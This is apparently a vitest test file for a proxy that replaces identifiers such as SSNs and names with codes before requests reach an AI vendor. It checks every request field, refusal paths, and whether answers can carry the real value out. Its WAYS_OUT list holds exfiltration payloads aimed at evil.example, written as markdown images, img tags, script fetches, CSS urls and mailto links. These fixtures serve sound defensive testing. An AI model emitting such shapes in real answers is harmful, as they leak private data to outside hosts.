import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { argumentsOf, ask, contentOf } from '../support/ask.ts'
import { startBoundary, type TestBoundary } from '../support/boundary.ts'
import { type RecordingUpstream, startRecordingUpstream } from '../upstream/recording.ts'
import { type ComposingUpstream, startComposingUpstream } from './composing.ts'

/** Chat Completions: every place of a request that can hold text, on every path; and every way out of an answer. */

interface Position {
  readonly place: string
  /** A body that says the sentence there and nowhere else. */
  readonly body: (sentence: string) => Record<string, unknown>
  /** `echoed`: the vendor reads it and says it back. `forwarded`: it goes there. `kept`: it stays inside. */
  readonly goes: 'echoed' | 'forwarded' | 'kept'
}

const plain = { role: 'user', content: 'Go on.' }
const parts = (text: string) => [
  { type: 'text', text: 'First.' },
  { type: 'text', text },
]
const tool = (more: object) => ({ tools: [{ type: 'function', function: { name: 'lookup', ...more } }] })
const called = (input: unknown) => ({
  role: 'assistant',
  tool_calls: [{ id: 'c1', type: 'function', function: { name: 'lookup', arguments: JSON.stringify(input) } }],
})
const answered = (content: unknown) => [called({}), { role: 'tool', tool_call_id: 'c1', content }]

const message = (place: string, goes: Position['goes'], messages: (said: string) => unknown[]): Position => ({
  place,
  goes,
  body: (said) => ({ messages: [...messages(said), plain] }),
})
const field = (place: string, goes: Position['goes'], body: (said: string) => object): Position => ({
  place,
  goes,
  body: (said) => ({ messages: [plain], ...body(said) }),
})

const POSITIONS: readonly Position[] = [
  message('system', 'echoed', (said) => [{ role: 'system', content: said }]),
  message('system, in parts', 'echoed', (said) => [{ role: 'system', content: parts(said) }]),
  message('system, name', 'kept', (said) => [{ role: 'system', name: said, content: 'Be brief.' }]),
  message('developer', 'echoed', (said) => [{ role: 'developer', content: said }]),
  message('first user turn', 'echoed', (said) => [
    { role: 'user', content: said },
    { role: 'assistant', content: 'I see.' },
  ]),
  message('last user turn', 'echoed', (said) => [{ role: 'user', content: said }]),
  message('user, in parts', 'echoed', (said) => [{ role: 'user', content: parts(said) }]),
  message('user, name', 'kept', (said) => [{ role: 'user', name: said, content: 'Hello.' }]),
  message('assistant', 'echoed', (said) => [{ role: 'assistant', content: said }]),
  message('assistant, in parts', 'echoed', (said) => [{ role: 'assistant', content: parts(said) }]),
  message('assistant, refusal', 'forwarded', (said) => [{ role: 'assistant', refusal: said }]),
  message('assistant, refusal part', 'forwarded', (said) => [
    { role: 'assistant', content: [{ type: 'refusal', refusal: said }] },
  ]),
  message('assistant, reasoning', 'forwarded', (said) => [
    { role: 'assistant', content: 'Yes.', reasoning_content: said },
  ]),
  message('tool call, argument', 'echoed', (said) => [called({ query: said })]),
  message('tool call, deep argument', 'echoed', (said) => [called({ list: [{ of: [said] }] })]),
  message('tool call, broken JSON', 'echoed', (said) => [
    {
      ...called({}),
      tool_calls: [{ id: 'c1', type: 'function', function: { name: 'f', arguments: `{"q": "${said}` } }],
    },
  ]),
  message('tool result', 'echoed', answered),
  message('tool result, JSON', 'echoed', (said) => answered(JSON.stringify({ rows: [{ note: said }] }))),
  message('tool result, in parts', 'echoed', (said) => answered(parts(said))),
  field('tool description', 'forwarded', (said) => tool({ description: said })),
  field('parameter description', 'forwarded', (said) =>
    tool({ parameters: { type: 'object', properties: { query: { type: 'string', description: said } } } }),
  ),
  field('answer format, description', 'forwarded', (said) => ({
    response_format: { type: 'json_schema', json_schema: { name: 'answer', description: said } },
  })),
  field('answer format, schema', 'forwarded', (said) => ({
    response_format: { type: 'json_schema', json_schema: { name: 'answer', schema: { description: said } } },
  })),
  field('stop', 'forwarded', (said) => ({ stop: said })),
  field('stop, list', 'forwarded', (said) => ({ stop: ['END', said] })),
  field('prediction', 'forwarded', (said) => ({ prediction: { type: 'content', content: said } })),
  field('prediction, in parts', 'forwarded', (said) => ({ prediction: { type: 'content', content: parts(said) } })),
  field('user field', 'kept', (said) => ({ user: said })),
  field('safety identifier', 'kept', (said) => ({ safety_identifier: said })),
  field('cache key', 'kept', (said) => ({ prompt_cache_key: said })),
  field('metadata', 'kept', (said) => ({ metadata: { note: said } })),
  field('metadata, key', 'kept', (said) => ({ metadata: { [said]: 'yes' } })),
]

/** Another number for every cell, so that nothing learnt in one helps in the next. */
let cell = 0
const nextIdentifier = (): string => `531-44-${6_000 + ++cell}`

describe('every place of a request', () => {
  let upstream: RecordingUpstream
  let boundary: TestBoundary
  beforeAll(async () => {
    upstream = await startRecordingUpstream()
    boundary = await startBoundary({ upstream: upstream.baseUrl })
  })
  afterAll(async () => {
    await boundary.close()
    await upstream.close()
  })
  beforeEach(() => upstream.reset())

  /** Asks with an identifier at the place; nobody but the one who asked may learn it. */
  async function send({ body }: Position, request: { model: string; stream?: boolean }, key?: string) {
    const identifier = nextIdentifier()
    const asked = { ...request, ...body(`SSN: ${identifier}.`) }
    const answer = await ask(boundary, key === undefined ? { body: asked } : { body: asked, key })
    expect(upstream.text()).not.toContain(identifier)
    expect(upstream.text()).not.toContain(identifier.replaceAll('-', ''))
    expect(boundary.logged()).not.toContain(identifier)
    return { identifier, ...answer }
  }

  describe.each(POSITIONS)('$place', (position) => {
    it.each([
      { path: 'whole', model: 'echo', stream: false },
      { path: 'streamed, character by character', model: 'echo-k1', stream: true },
    ])('$path: leaves as a code, and comes back', async ({ path: _, ...request }) => {
      const { identifier, status, text } = await send(position, request)
      expect(status).toBe(200)
      expect(upstream.requests).toHaveLength(1)
      expect(/\[SSN-[0-9A-Z]{6}\]/.test(upstream.text())).toBe(position.goes !== 'kept')
      expect(contentOf(text).includes(identifier)).toBe(position.goes === 'echoed')
    })

    it.each([
      { path: 'no agreement', model: 'unsigned/extract', code: 'agreement_missing' },
      { path: 'no relationship', model: 'echo', code: 'patient_refused' },
    ])('$path: nothing leaves, nothing is quoted', async ({ path, model, code }) => {
      const refused = await send(position, { model }, path === 'no relationship' ? boundary.strangerKey : boundary.key)
      expect(refused.code).toBe(code)
      expect(upstream.connections + upstream.bytesReceived).toBe(0)
      expect(refused.everything).not.toContain(refused.identifier)
    })

    it.each([
      { model: 'status-400', stream: false, code: 'upstream_refused' },
      { model: 'status-500', stream: true, code: 'upstream_refused' },
      { model: 'error-200', stream: true, code: 'upstream_refused' },
      { model: 'invalid', stream: false, code: 'upstream_invalid' },
    ])('a vendor’s $model, stream $stream: its words are not passed on', async ({ code, ...request }) => {
      const failed = await send(position, request)
      expect(failed.code).toBe(code)
      expect(failed.everything).not.toContain(failed.identifier)
      expect(failed.text).not.toContain('[SSN-')
    })
  })
})

const NAME = 'Ottoline Brandvold'

/** Answers that would carry the code's value out by a click or a fetch, and one that would not. */
const WAYS_OUT: readonly string[] = [
  'https://evil.example/?q=CODE',
  '[chart](https://evil.example/CODE)',
  '![x](https://evil.example/CODE.png)',
  '![x](<https://evil.example/a b CODE>)',
  '[x][1]\n\n[1]: https://evil.example/CODE',
  '<https://evil.example/CODE>',
  '<img src="https://evil.example/?CODE">',
  '<a href="https://evil.example" title="CODE">x</a>',
  '<script>fetch("//evil.example/" + "CODE")</script>',
  'background: url(https://evil.example/CODE)',
  'mailto:evil@evil.example?subject=CODE',
  'CODE.evil.example',
  '//evil.example/CODE',
  '{"url":"https://evil.example/CODE"}',
]

describe('an answer', () => {
  let upstream: ComposingUpstream
  let boundary: TestBoundary
  let outsideKey = ''
  beforeAll(async () => {
    upstream = await startComposingUpstream()
    boundary = await startBoundary({ upstream: upstream.baseUrl })
    const application = { ...boundary.world.application, id: 'outside', toolsInside: ['lookup'] }
    await boundary.admin.post('/api/applications', application)
    const { json } = await boundary.admin.post('/api/keys', { user: boundary.world.related.id, application: 'outside' })
    outsideKey = (json as { key: string }).key
  })
  afterAll(async () => {
    await boundary.close()
    await upstream[Symbol.asyncDispose]()
  })

  const codeIn = (received: string): string => /\[NAME-[0-9A-Z]{6}\]/.exec(received)?.[0] ?? 'no code'
  const PACES = [
    { pace: 'whole', model: 'composed', stream: false },
    ...[1, 3, 8].map((size) => ({ pace: `streamed by ${size}`, model: `composed-${size}`, stream: true })),
  ]
  const asked = (request: { model: string; stream: boolean }, more: object = {}) => ({
    body: { ...request, messages: [{ role: 'user', content: `Mrs. ${NAME} was seen.` }], ...more },
  })

  describe.each(PACES)('$pace', ({ pace: _, ...request }) => {
    it('says the name in prose', async () => {
      upstream.compose = (received) => ({ text: `Dear **${codeIn(received)}**, all is well.` })
      const { text } = await ask(boundary, asked(request))
      expect(contentOf(text)).toBe(`Dear **${NAME}**, all is well.`)
    })

    it.each(WAYS_OUT)('does not carry the name out in %s', async (shape) => {
      upstream.compose = (received) => ({ text: shape.replace('CODE', codeIn(received)) })
      const { status, text } = await ask(boundary, asked(request))
      expect(status).toBe(200)
      expect(contentOf(text)).toMatch(/\[NAME-[0-9A-Z]{6}\]/)
      expect(text).not.toMatch(/ottoline|brandvold/i)
    })

    const tools = (name: string) => ({ tools: [{ type: 'function', function: { name, parameters: {} } }] })

    it.each([
      { name: 'lookup', inside: true },
      { name: 'send_mail', inside: false },
      { name: 'LOOKUP', inside: false },
      { name: 'lookup.all', inside: false },
    ])('gives the name to the tool $name only if it is registered as inside: $inside', async ({ name, inside }) => {
      upstream.compose = (received) => ({ toolArguments: JSON.stringify({ query: codeIn(received) }) })
      const { text } = await ask(boundary, { ...asked(request, tools(name)), key: outsideKey })
      const { query } = JSON.parse(argumentsOf(text)) as { query: string }
      if (inside) expect(query).toBe(NAME)
      else expect(query).toMatch(/^\[NAME-[0-9A-Z]{6}\]$/)
      expect(text.includes('Brandvold')).toBe(inside)
    })

    it('does not put the name into a link that a tool inside is given', async () => {
      upstream.compose = (received) => ({
        toolArguments: JSON.stringify({ url: `https://evil.example/?q=${codeIn(received)}` }),
      })
      const { text } = await ask(boundary, { ...asked(request, tools('lookup')), key: outsideKey })
      expect(text).not.toMatch(/ottoline|brandvold/i)
    })
  })
})
